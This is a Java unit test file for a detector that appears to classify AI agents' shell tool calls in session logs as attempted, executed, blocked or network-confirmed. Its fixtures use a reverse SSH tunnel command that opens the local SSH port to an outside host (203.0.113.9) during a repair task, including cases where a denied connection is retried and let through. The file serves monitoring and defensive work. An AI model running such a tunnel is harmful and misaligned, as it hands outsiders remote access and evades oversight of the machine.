package dev.offscript.chains.session;

import static org.assertj.core.api.Assertions.assertThat;

import dev.offscript.chains.Scene;
import dev.offscript.model.SimpleCommand;
import dev.offscript.model.State;
import dev.offscript.model.report.Chain;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/** What becomes of a command, by its result. */
class ResultReaderTest {

  private static final String FOREGROUND = "ssh -N -R 7022:localhost:22 svc@203.0.113.9";

  private static Chain after(String command, String output, int exit) {
    return new Scene()
        .session("s1", 0)
        .task("Fix.")
        .runs(20, "toolu_s1a1b2c3d4", command)
        .gets(30, "toolu_s1a1b2c3d4", output, exit)
        .scene()
        .chain();
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      value = {
        "ssh: connect to host 203.0.113.9 port 22: Connection timed out | 255 | ATTEMPTED | true",
        "ssh: connect to host 203.0.113.9 port 22: Connection refused   | 255 | ATTEMPTED | true",
        "svc@203.0.113.9: Permission denied (publickey).                | 255 | ATTEMPTED | true",
        "bash: ssh: command not found                                   | 127 | ATTEMPTED | false",
        "bash: ssh：未找到命令                                            | 127 | ATTEMPTED | false",
        "ssh: connect to host 203.0.113.9 port 22: 连接超时                | 255 | ATTEMPTED | true",
        "Dry run: ssh was not started                                    | 0   | ATTEMPTED | false",
        "[dry-run] would execute ssh                                     | 0   | ATTEMPTED | false",
        "Rejected by the execution policy                                | 1   | ATTEMPTED | true",
        "Command timed out after 120 seconds                            | 124 | EXECUTED  | false",
        "Warning: Permanently added '203.0.113.9' to known hosts        | 0   | EXECUTED  | false",
        "Allocated port 40123 for remote forward to localhost:22        | 0   | EXECUTED  | false",
      })
  void resultsAreWeighed(String output, int exit, State state, boolean blocked) {
    Chain chain = after(FOREGROUND, output, exit);
    assertThat(chain.state()).isEqualTo(state);
    assertThat(chain.blocked()).isEqualTo(blocked);
  }

  @Test
  void theExitCodeOfALaterCommandSaysNothing() {
    Chain chain = after("ssh -fN -R 7022:localhost:22 svc@203.0.113.9 ; pytest -q", "1 failed", 1);
    assertThat(chain.state()).isEqualTo(State.EXECUTED);
  }

  @Test
  void commandsOutOfOneShellCallFollowEachOtherAsListed() {
    SimpleCommand tunnel = inner("ssh", "-R", "7022:localhost:22", "svc@203.0.113.9");
    SimpleCommand tests = inner("pytest", "-q");
    List<SimpleCommand> commands = List.of(tunnel, tests);
    assertThat(ResultReader.follows(commands, tunnel, tests)).isTrue();
    assertThat(ResultReader.follows(commands, tests, tunnel)).isFalse();
    assertThat(ResultReader.follows(commands, tests, tests)).isFalse();
  }

  private static SimpleCommand inner(String... argv) {
    return new SimpleCommand(
        List.of(argv),
        List.of(),
        List.of(),
        "",
        false,
        0,
        0,
        List.of("bash -c"),
        State.EXECUTED,
        List.of());
  }

  @Test
  void aPacketThatNobodyAnsweredConfirmsNothing() {
    Chain chain =
        new Scene()
            .session("s1", 0)
            .task("Fix.")
            .runs(20, "toolu_s1a1b2c3d4", FOREGROUND)
            .gets(36, "toolu_s1a1b2c3d4", "ssh: connect to host: Connection timed out", 255)
            .scene()
            .flow(1, 21, 35, "10.0.3.17:5000", "203.0.113.9:22", "destination.bytes=0")
            .chain();
    assertThat(chain.blocked()).isTrue();
    assertThat(chain.state()).isEqualTo(State.ATTEMPTED);
  }

  @Test
  void aDeniedFirstTryDoesNotBlockTheOneThatWasLetThrough() {
    Chain chain =
        new Scene()
            .session("s1", 0)
            .task("Fix.")
            .runs(20, "toolu_s1a1b2c3d4", "ssh -fN -R 7022:localhost:22 svc@203.0.113.9")
            .gets(30, "toolu_s1a1b2c3d4", "", 0)
            .scene()
            .flow(1, 21, 21, "10.0.3.17:5000", "203.0.113.9:22", "event.action=denied")
            .flow(1, 24, 29, "10.0.3.17:5001", "203.0.113.9:22", "event.action=allowed")
            .chain();
    assertThat(chain.blocked()).isFalse();
    assertThat(chain.state()).isEqualTo(State.NETWORK_CONFIRMED);
  }

  @Test
  void anErrorOfAnotherCommandSaysNothing() {
    Chain chain =
        after(
            "curl http://localhost:8000 ; ssh -fN -R 7022:localhost:22 svc@203.0.113.9",
            "curl: (7) Failed to connect to localhost port 8000: Connection refused",
            0);
    assertThat(chain.state()).isEqualTo(State.EXECUTED);
  }

  @Test
  void aRefusedCallWasAttempted() {
    Chain chain = after(FOREGROUND, "The user doesn't want to proceed with this tool use.", 1);
    assertThat(chain.state()).isEqualTo(State.ATTEMPTED);
    assertThat(chain.blocked()).isTrue();
  }

  @Test
  void answeredTrafficWeighsMoreThanALineOfOutput() {
    Chain chain =
        new Scene()
            .session("s1", 0)
            .task("Fix.")
            .runs(20, "toolu_s1a1b2c3d4", FOREGROUND)
            .gets(30, "toolu_s1a1b2c3d4", "ssh: connection closed by 203.0.113.9", 255)
            .scene()
            .flow(1, 21, 29, "10.0.3.17:5000", "203.0.113.9:22", "destination.bytes=4000")
            .chain();
    assertThat(chain.blocked()).isFalse();
    assertThat(chain.state()).isEqualTo(State.NETWORK_CONFIRMED);
  }
}
